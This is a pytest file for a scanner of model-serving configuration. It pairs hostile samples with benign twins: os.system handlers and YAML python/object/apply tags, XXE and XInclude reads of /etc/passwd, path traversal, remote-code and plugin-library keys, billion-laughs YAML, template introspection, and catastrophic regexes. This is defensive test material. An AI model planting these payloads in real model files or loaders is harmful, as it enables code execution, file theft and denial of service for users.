"""Keys of Hugging Face configuration that run or fetch code, and configuration of programs that serve models, each with a benign twin."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.cases import each
from tests.engines.modelfiles.configuration.attacks_and_twins import alarms, worst
from veritensor_ray.engines.modelfiles.configuration.regex_bombs import is_bomb

PROSE = "This is a line of text which says something about the data.\n" * 20
CASES: list[tuple[str, str, Any, Any]] = [
    ("own code", "config.json", {"auto_map": {"AutoModel": "modeling.M"}}, {"architectures": ["LlamaForCausalLM"], "model_type": "llama"}),
    ("foreign code", "processor_config.json", {"auto_map": {"AutoProcessor": "a/b--p.P"}}, {"processor_class": "LlavaProcessor"}),
    ("foreign code by any key", "config.json", {"my_class": "owner/name--module.Class"}, {"my_class": "owner/name--v2"}),
    ("trust", "config.yaml", "model: {trust_remote_code: true}", "model: {trust_remote_code: false}"),
    ("kernel", "config.json", {"_attn_implementation": "evil/flash"}, {"_attn_implementation": "flash_attention_2"}),
    ("kernel in parts", "config.json", {"attn_implementation": {"text_config": "evil/flash@main:fn"}}, {"attn_implementation": {"text_config": "sdpa"}}),
    ("kernel of the hub", "config.json", {"_attn_implementation": "paged|evil/flash"}, {"_attn_implementation": "kernels-community/flash-attn"}),
    ("kernel_config", "config.json", {"model_type": "x", "kernel_config": {"RMSNorm": "evil/repo:Layer"}}, {"model_type": "x", "kernel_config": {"size": 3}}),
    ("custom_generate", "generation_config.json", {"custom_generate": "evil/repo"}, {"do_sample": True}),
    ("model_file", "config.json", {"model_type": "x", "model_file": "model.py"}, {"model_type": "x", "model_file": "model.safetensors"}),
    ("modeling_file", "config.json", {"model_type": "x", "modeling_file": "m.py"}, {"model_type": "x", "modeling_file": None}),
    ("base by address", "adapter_config.json", {"peft_type": "LORA", "base_model_name_or_path": "http://x.example/m"}, {"peft_type": "LORA", "base_model_name_or_path": "meta-llama/Llama-3"}),
    ("base outside", "adapter_config.json", {"base_model_name_or_path": "../../secret"}, {"base_model_name_or_path": "/home/me/models/base"}),
    ("tokenizer by address", "tokenizer_config.json", {"tokenizer_file": "http://x.example/t.json"}, {"tokenizer_file": "tokenizer.json"}),
    ("megatron", "adapter_config.json", {"peft_type": "LORA", "megatron_core": "evil.core"}, {"peft_type": "LORA", "megatron_core": "megatron.core"}),
    ("adapter's library", "adapter_config.json", {"auto_mapping": {"parent_library": "evil.models"}}, {"auto_mapping": {"parent_library": "transformers.models.bert"}}),
    ("pipeline", "model_index.json", {"unet": ["evil", "U"]}, {"unet": ["diffusers", "U"], "_class_name": "P"}),
    ("pipelines", "config.json", {"custom_pipelines": {"x": {"impl": "p.Pipe"}}}, {"custom_pipelines": {}}),
    ("modules", "modules.json", [{"type": "evil.M", "path": ""}], [{"type": "sentence_transformers.models.Pooling", "path": "1_Pooling"}]),
    ("modules, path", "modules.json", [{"type": "sentence_transformers.models.Dense", "path": "../../x"}], [{"type": "sentence_transformers.models.Dense", "path": "2_Dense"}]),
    ("router", "router_config.json", {"types": {"a": "evil.M"}}, {"types": {"a": "sentence_transformers.models.Transformer"}}),
    ("quantization", "config.json", {"quantization_config": {"quant_method": "x", "module_path": "evil.quant"}}, {"quantization_config": {"quant_method": "gptq", "bits": 4}}),
    ("quantization, name", "config.json", {"quantization_config": {"fn": {"x": "os.system"}}}, {"quantization_config": {"modules_to_not_convert": ["lm_head", "model.layers.0"]}}),
    ("index", "model.safetensors.index.json", {"weight_map": {"a": "../../etc/x.bin"}}, {"weight_map": {"a": "model-00001-of-00002.safetensors"}}),
    ("size", "config.json", {"vocab_size": 10**15}, {"vocab_size": 152064, "model_max_length": 10**30}),
    ("tokenizer", "tokenizer.json", {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}}, {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "\\s+(?!\\S)|\\s+"}}}),
    ("target modules", "adapter_config.json", {"target_modules": "(.*a.*)*b"}, {"target_modules": ".*\\.(q|k|v)_proj"}),
    ("tokenizer in steps", "tokenizer.json", {"pre_tokenizer": {"type": "Sequence", "pretokenizers": [{"type": "Split", "pattern": {"Regex": "(x|x)*y"}}]}}, {"pre_tokenizer": {"type": "Sequence", "pretokenizers": [{"type": "Split", "pattern": {"Regex": "(x|z)*y"}}]}}),
    ("timm, address", "config.json", {"architecture": "vit", "pretrained_cfg": {"url": "http://x.example/w.pth"}}, {"architecture": "vit", "pretrained_cfg": {"url": "https://github.com/rwightman/pytorch-image-models/releases/download/v1/w.pth", "tag": "a1_in1k"}}),
    ("timm, file", "config.json", {"architecture": "vit", "pretrained_cfg": {"file": "/opt/w.pth"}}, {"architecture": "vit", "pretrained_cfg": {"file": None, "hf_hub_id": "timm/vit_tiny", "origin_url": "https://github.com/x/y"}}),
    ("data set", "README.md", "---\nconfigs:\n- config_name: default\n  data_files: https://x.example/data.pkl\n---\n# Data\n" + PROSE, "---\nconfigs:\n- config_name: default\n  data_files: data/train-*.parquet\n---\n# Data\n" + PROSE),
    ("data set, splits", "README.md", "---\nconfigs:\n- data_files:\n  - {split: train, path: /etc/passwd}\n---\n" + PROSE, "---\nconfigs:\n- data_files:\n  - {split: train, path: ../data/train.csv}\n---\n" + PROSE),
    ("data set, trust", "README.md", "---\ntrust_remote_code: true\n---\n" + PROSE, "# Use\n---\ntrust_remote_code: true\n---\n" + PROSE),
    ("handler", "handler.py", "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('id')\n", "from transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.pipe = pipeline('fill-mask', model=path)\n"),
    ("handler of Triton", "model.py", "import subprocess\nclass TritonPythonModel:\n    def initialize(self, args):\n        subprocess.run(['id'])\n", "import subprocess\nclass Model:\n    def start(self):\n        subprocess.run(['id'])\n"),
    ("handler of SageMaker", "code/inference.py", "import os\nos.system('id')\n", "import json\ndef model_fn(folder):\n    return json.loads(folder)\n"),
    # Programs that serve models.
    ("Ray, folder", "serve.yaml", "applications:\n- name: a\n  runtime_env: {working_dir: 'https://x.example/x.zip'}\n", "applications:\n- name: a\n  runtime_env: {working_dir: ./app}\n"),
    ("Ray, modules", "serve.yaml", "runtime_env: {py_modules: ['http://x.example/x.zip']}\n", "runtime_env: {py_modules: [app]}\n"),
    ("Ray, packages", "serve.yaml", "runtime_env: {pip: ['https://x.example/x.whl']}\n", "runtime_env: {pip: ['torch==2.7.0']}\n"),
    ("vLLM, parser", "vllm.yaml", "model: org/m\ntool-parser-plugin: /opt/parser.py\n", "model: org/m\ntool-call-parser: hermes\n"),
    ("vLLM, worker", "vllm.yaml", "model: org/m\nworker-extension-cls: x.Extension\n", "model: org/m\nworker-cls: auto\nscheduler_cls: torch.optim.lr_scheduler.StepLR\n"),
    ("vLLM, worker in os", "vllm.json", {"worker_cls": "os.system"}, {"worker_cls": "vllm.v1.worker.gpu_worker.Worker", "scheduler_cls": "my.Scheduler"}),
    ("Triton, batching", "config.pbtxt", 'name: "m"\nbackend: "python"\nmax_batch_size: 8\nparameters { key: "TRITON_BATCH_STRATEGY_PATH" value: { string_value: "/opt/b.so" } }\n', 'name: "m"\nbackend: "python"\nmax_batch_size: 8\nparameters { key: "MAX_BATCH" value: { string_value: "4" } }\n'),
    ("MLflow loader", "MLmodel", "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"),
    ("MLflow loader in os", "MLmodel", "flavors:\n  python_function:\n    loader_module: os\n", "flavors:\n  python_function:\n    loader_module: mlflow.pytorch\n"),
    ("MLflow code", "MLmodel.yaml", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: ../../x\n", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n"),
    ("MLflow model from code", "MLmodel.yaml", "flavors:\n  langchain:\n    model_code_path: /opt/agent.py\n", "flavors:\n  langchain:\n    model_code_path: null\n"),
    ("Triton library", "config.pbtxt", 'name: "m"\nplatform: "tensorflow_savedmodel"\nmodel_operations { op_library_filename: "/opt/evil.so" }\n', 'name: "m"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 8\n'),
    ("Triton backend", "config.pbtxt", 'name: "m"\nbackend: "../../evil"\nmax_batch_size: 8\n', 'name: "m"\nbackend: "onnxruntime"\nmax_batch_size: 8\n'),
    ("Triton file", "config.pbtxt", 'name: "m"\nbackend: "custom"\ninput [ { name: "a" } ]\ndefault_model_filename: "../../libx.so"\n', 'name: "m"\nbackend: "tensorrt"\ninput [ { name: "a" } ]\ndefault_model_filename: "model.plan"\n'),
    ("LangChain", "chain.json", {"lc": 1, "type": "constructor", "id": ["os", "system"]}, {"lc": 1, "type": "constructor", "id": ["langchain", "llms", "OpenAI"]}),
    ("Triton environment", "config.pbtxt", 'name: "m"\nbackend: "python"\nmax_batch_size: 0\nparameters { key: "EXECUTION_ENV_PATH" value: { string_value: "/opt/e.tar.gz" } }\n', 'name: "m"\nbackend: "python"\nmax_batch_size: 0\nparameters { key: "EXECUTION_ENV_PATH" value: { string_value: "$$TRITON_MODEL_DIRECTORY/e.tar.gz" } }\n'),
    ("Caffe", "net.prototxt", 'name: "n"\nlayer { name: "l" type: "Python" python_param { module: "os" layer: "system" } }\n', 'name: "n"\nlayer { name: "l" type: "Convolution" convolution_param { num_output: 3 } }\n'),
    ("Caffe, own", "net.prototxt", 'name: "n"\nlayer { name: "l" type: "Python" python_param { module: "evil" layer: "L" } }\n', 'name: "n"\ninput: "data"\nlayer { name: "l" type: "ReLU" }\n'),
    ("MXNet", "m-symbol.json", {"nodes": [{"op": "Custom", "name": "c", "attrs": {"op_type": "evil"}, "inputs": [[0, 0, 0]]}]}, {"nodes": [{"op": "FullyConnected", "name": "c", "attrs": {"num_hidden": "3"}, "inputs": [[0, 0, 0]]}]}),
    ("MXNet, address", "m-symbol.json", {"nodes": [{"op": "_Native", "name": "c", "attrs": {"info": "0x7f00"}, "inputs": []}]}, {"nodes": [{"op": "null", "name": "c", "inputs": []}]}),
    ("ONNX Runtime", "genai_config.json", {"model": {"decoder": {"session_options": {"custom_ops_library": "../evil.so"}}}}, {"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "QnnHtp.dll"}}]}}}}),
    ("TensorRT", "engine.json", {"plugins": ["/opt/evil.so"]}, {"plugins": ["gpt_attention"]}),
    ("TorchServe", "MANIFEST.json", {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py"}}, {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier"}}),
    ("ModelScope", "configuration.json", {"framework": "pytorch", "allow_remote": True}, {"framework": "pytorch", "allow_remote": False}),
    ("fairseq", "c.yaml", "common:\n  user_dir: //server/share/x\n", "common:\n  user_dir: examples/data2vec\n"),
    ("PMML", "m.pmml", '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>', '<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>'),
    ("OpenVINO", "m.xml", '<?xml version="1.0"?><net name="n" version="11" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></net>', '<?xml version="1.0"?><net name="n" version="11"><layers/></net>'),
    ("OpenVINO plug-ins", "plugins.xml", '<ie><plugins><plugin name="CPU" location="/opt/evil.so"/></plugins></ie>', '<ie><plugins><plugin name="CPU" location="libopenvino_cpu.so"/></plugins></ie>'),
]  # fmt: skip


def safetensors(metadata: dict[str, str]) -> bytes:
    header = json.dumps({"__metadata__": metadata}).encode()
    return len(header).to_bytes(8, "little") + header


def laughs(line: str) -> str:
    return "a: &a [x, x]\n" + "".join(
        f"{name}: &{name} {line.format(before)}\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )


CASES += [
    ("metadata", "m.safetensors", safetensors({"config": '{"_target_": "os.system"}'}), safetensors({"config": '{"_target_": "my.Net"}', "format": "pt"})),
    ("metadata in YAML", "m.safetensors", safetensors({"args": "lr: 0.1\nhook: !!python/object/apply:os.system [id]\n"}), safetensors({"args": "lr: 0.1\nhook: !!python/tuple [1, 2]\n"})),
    ("metadata in YAML, target", "m.safetensors", safetensors({"args": "net:\n  _target_: os.system\n"}), safetensors({"args": "net:\n  _target_: torch.nn.ReLU\n"})),
    ("laughs", "c.yaml", laughs("[*{0}, *{0}, *{0}, *{0}, *{0}, *{0}, *{0}]"), laughs("[*{0}, 1]")),
    ("laughs in mappings", "c.yml", laughs("{{p: *{0}, q: *{0}, r: *{0}, s: *{0}, t: *{0}, u: *{0}}}"), laughs("{{p: *{0}, q: 1}}")),
    ("metadata, key", "m.safetensors", safetensors({"chat_template": "{{ x.__class__.__mro__ }}"}), safetensors({"chat_template": "{{ x.content }}"})),
]  # fmt: skip


@each(("name", "attack", "twin"), [pytest.param(*case[1:], id=case[0]) for case in CASES])
def test_attacks_are_found_and_twins_are_not(name: str, attack: Any, twin: Any) -> None:
    assert alarms(name, attack)
    assert not alarms(name, twin), worst(name, twin)


GPT2 = r"""'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"""
LLAMA3 = r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"""
GPT4O = r"""[^\r\n\p{L}\p{N}]?[\p{Lu}\p{Lt}\p{Lm}\p{Lo}\p{M}]*[\p{Ll}\p{Lm}\p{Lo}\p{M}]+(?i:'s|'t)?|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n/]*|\s*[\r\n]+|\s+(?!\S)|\s+"""
DEEPSEEK = "[!\"#$%&'()*+,\\-./:;<=>?@\\[\\\\\\]^_`{|}~][A-Za-z]+|[^\r\n\\p{L}\\p{P}\\p{S}]?[\\p{L}\\p{M}]+| ?[\\p{P}\\p{S}]+[\r\n]*|\\s*[\r\n]+|\\s+(?!\\S)|\\s+"


@each(
    ("pattern", "bomb"),
    [
        ("(a+)+$", True),
        ("(a*)*b", True),
        ("(a|ab|b)*c", True),
        ("(x+x+)+y", True),
        (r"(\w+\s?)+$", True),
        (r"^(\p{L}+)*\d", True),
        ("(?:a?b?)*c", True),
        (r"([a-z]+|[a-z0-9]+)*!", True),
        ("(.*)*x", True),
        ("((a{1,50}){1,50})b", True),
        (r"(\w+\s)+$", False),
        ("(ab)+c", False),
        ("(a|b)*c", False),
        ("a+b+c+", False),
        ("(a++)+b", False),
        (r"(?:\d{1,3}\.){3}\d", False),
        ("(", False),
        (GPT2, False),
        (LLAMA3, False),
        (GPT4O, False),
        (DEEPSEEK, False),
        ("(" + "|".join(f"w{one}" for one in range(200)) + ")*$", False),
    ],
)
def test_patterns(pattern: str, bomb: bool) -> None:
    assert is_bomb(pattern) is bomb
